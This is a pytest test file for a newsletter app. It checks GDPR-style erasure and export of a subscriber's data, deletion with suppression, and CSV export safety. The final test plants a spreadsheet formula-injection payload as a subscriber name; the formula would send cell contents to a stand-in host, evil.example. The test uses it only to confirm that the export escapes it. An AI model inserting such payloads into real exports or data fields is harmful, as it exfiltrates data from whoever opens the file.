"""6. Forgetting a person leaves nothing of them; their export shows everything.

A reader leaves traces through the real app: an admin's status change whose reason names
their address, a test send to it, an admin edit of their name, SendGrid opens and clicks
(with IP address and user agent) sent with the address in another case and with spaces,
a billing call, and copies in the outbox.  Then `digest subscribers show` and
`digest subscribers forget`, as an operator runs them.
"""

from __future__ import annotations

import base64
import csv
import io
import json
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from fastapi.testclient import TestClient
from sqlalchemy import select, text
from typer.testing import CliRunner

from digest.audience.billing import SIGNATURE_HEADER, TIMESTAMP_HEADER, sign_billing_payload
from digest.audience.lists import create_list
from digest.audience.subscribers import email_hash, subscribe
from digest.cli import app as cli
from digest.delivery import webhook_signature
from digest.delivery.send import send_edition_in_process
from digest.delivery.transports.outbox import OutboxTransport
from digest.models import Delivery, Edition, Membership, Subscriber, Suppression
from digest.runtime import Runtime
from digest.web.app import create_app
from digest.web.passwords import create_admin_user
from tests.conftest import TEST_SECRET_KEY
from tests.web.support import ADMIN_PASSWORD, ADMIN_USER, sign_in, submit

BILLING_SECRET = "billing-secret"
IP, AGENT = "203.0.113.77", "Mozilla/5.0 (RanaPhone)"
TRACES = ("rana@example.org", IP, AGENT.lower(), "rana haddad")
PRIVATE = ec.generate_private_key(ec.SECP256R1())


@pytest.fixture
def env(rt: Runtime, monkeypatch: pytest.MonkeyPatch) -> Runtime:
    monkeypatch.setenv("DIGEST_DATABASE_URL", rt.settings.effective_database_url)
    monkeypatch.setenv("DIGEST_DATA_DIR", str(rt.settings.data_dir))
    monkeypatch.setenv("DIGEST_SECRET_KEY", TEST_SECRET_KEY)
    return rt


@pytest.fixture
def admin(rt: Runtime) -> Iterator[TestClient]:
    key = base64.b64encode(PRIVATE.public_key().public_bytes(
        serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo)).decode()
    settings = rt.settings.model_copy(update={"billing_webhook_secret": BILLING_SECRET,
                                              "sendgrid_webhook_public_key": key})
    with rt.sessions() as session, session.begin():
        create_admin_user(session, ADMIN_USER, ADMIN_PASSWORD)
    with TestClient(create_app(settings, runtime=rt),
                    base_url="https://digest.example.org") as client:
        assert sign_in(client).status_code == 303
        yield client


def _sent_to_rana(rt: Runtime) -> tuple[int, int, int, int]:
    """(subscriber, membership, edition, delivery) after a real send into the outbox."""
    with rt.sessions() as session, session.begin():
        ml = create_list(session, "Syria Digest")
        membership = subscribe(session, ml.id, "Rana@example.org", name="Rana Haddad")
        subscribe(session, ml.id, "tom@example.org", name="Tom")
        edition = Edition(list_id=ml.id, slot="2026-11-27", subject="Aleppo",
                          html="<p>Hi -name-</p>", text="Hi -name-")
        session.add(edition)
        session.flush()
        ids = membership.subscriber_id, membership.id, edition.id
    send_edition_in_process(rt.sessions, ids[2], OutboxTransport(rt.settings.data_dir / "outbox"),
                            rt.settings)
    with rt.sessions() as session:
        delivery = session.scalar(select(Delivery.id).where(Delivery.subscriber_id == ids[0]))
    assert delivery is not None
    return (*ids, delivery)


def _sendgrid_post(client: TestClient, events: list[dict[str, object]]) -> None:
    body = json.dumps(events).encode()
    stamp = str(int(time.time()))
    signature = base64.b64encode(PRIVATE.sign(stamp.encode() + body,
                                              ec.ECDSA(hashes.SHA256()))).decode()
    answer = client.post("/webhooks/sendgrid", content=body, headers={
        webhook_signature.SIGNATURE_HEADER: signature,
        webhook_signature.TIMESTAMP_HEADER: stamp})
    assert answer.status_code == 200


def _billing_post(client: TestClient, payload: dict[str, object]) -> None:
    body = json.dumps(payload).encode()
    now = int(time.time())
    answer = client.post("/webhooks/billing", content=body, headers={
        TIMESTAMP_HEADER: str(now), SIGNATURE_HEADER: sign_billing_payload(BILLING_SECRET, now,
                                                                            body)})
    assert answer.status_code == 200


def _leave_traces(client: TestClient, ids: tuple[int, int, int, int]) -> None:
    subscriber, membership, edition, delivery = ids
    person = f"/admin/people/{subscriber}"
    changed = submit(client, person, f"/admin/memberships/{membership}/status",
                     {"status": "unsubscribed", "reason": "Rana@Example.org phoned to leave"})
    assert changed.status_code == 303
    tested = submit(client, f"/admin/editions/{edition}", f"/admin/editions/{edition}/test",
                    {"email": "rana@example.org"})
    assert tested.status_code == 303
    edited = submit(client, person, f"{person}/details",
                    {"name": "Rana Haddad", "timezone": "Asia/Damascus",
                     "attributes": '{"note": "rana@example.org"}'})
    assert edited.status_code in (302, 303)
    custom = {"edition_id": str(edition), "subscriber_id": str(subscriber),
              "delivery_id": str(delivery)}
    _sendgrid_post(client, [
        {"event": "open", "sg_event_id": "o1", "email": " RANA@Example.org ", "ip": IP,
         "useragent": AGENT, **custom},
        {"event": "click", "sg_event_id": "c1", "email": "rana@EXAMPLE.org", "ip": IP,
         "useragent": AGENT, "url": "https://example.org/story"},
    ])
    _billing_post(client, {"id": "evt_1", "email": "Rana@EXAMPLE.org ",
                           "billing_status": "current"})


def _everything_stored(rt: Runtime) -> str:
    """Every row of every table that could hold a person, as lower-case text."""
    tables = ("subscribers", "memberships", "deliveries", "audit_log", "webhook_events")
    with rt.sessions() as session:
        rows = [row for table in tables
                for row in session.execute(text(f"SELECT * FROM {table}")).all()]
    return " ".join(str(tuple(row)) for row in rows).lower()


def _outbox_text(rt: Runtime) -> str:
    folder = Path(rt.settings.data_dir, "outbox")
    return " ".join(p.read_bytes().decode("utf-8", "replace") for p in folder.glob("*.eml"))


def test_forget_leaves_no_trace_and_the_export_showed_every_event(
        env: Runtime, admin: TestClient) -> None:
    ids = _sent_to_rana(env)
    _leave_traces(admin, ids)
    assert all(trace in _everything_stored(env) for trace in TRACES)
    assert "rana@example.org" in _outbox_text(env).lower()

    shown = CliRunner().invoke(cli, ["subscribers", "show", "rana@example.org", "--json"])
    assert shown.exit_code == 0, shown.output
    export = json.loads(shown.output)
    assert {e["event"] for e in export["events"]} >= {"open", "click", "current"}
    assert IP in shown.output and AGENT in shown.output

    erased = CliRunner().invoke(cli, ["subscribers", "forget", "rana@example.org", "--yes"])
    assert erased.exit_code == 0, erased.output
    stored = _everything_stored(env)
    assert [trace for trace in TRACES if trace in stored] == []
    assert "rana@example.org" not in _outbox_text(env).lower()
    assert "tom@example.org" in _outbox_text(env)  # nobody else's copy goes
    with env.sessions() as session:
        assert session.scalar(select(Suppression.id).where(
            Suppression.email_hash == email_hash("rana@example.org"))) is not None


def test_deleting_a_subscriber_in_the_console_suppresses_the_address(
        rt: Runtime, admin: TestClient) -> None:
    subscriber, membership, _edition, _delivery = _sent_to_rana(rt)
    answer = submit(admin, "/admin/people", "/admin/people/bulk",
                    {"membership_ids": [membership], "action": "delete", "reason": "asked"})
    assert answer.status_code == 303
    assert "rana@example.org" not in _outbox_text(rt).lower()  # their copies go too
    with rt.sessions() as session:
        assert session.get(Subscriber, subscriber) is None
        assert session.scalar(select(Suppression.id).where(
            Suppression.email_hash == email_hash("rana@example.org"))) is not None
    form = "/lists/syria-digest/subscribe"
    submit(admin, form, form, {"email": "rana@example.org", "name": "Rana"})
    with rt.sessions() as session:
        assert session.scalar(select(Membership).join(Subscriber).where(
            Subscriber.email_key == "rana@example.org")) is None


def test_the_console_csv_export_never_hands_a_spreadsheet_a_formula(
        rt: Runtime, admin: TestClient) -> None:
    with rt.sessions() as session, session.begin():
        ml = create_list(session, "Syria Digest")
        subscribe(session, ml.id, "eve@example.org",
                  name='=HYPERLINK("https://evil.example/?"&A1,"Click")')
    answer = admin.get(f"/admin/lists/{ml.id}/export.csv")
    assert answer.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(answer.text)) for cell in row]
    assert "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")" in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
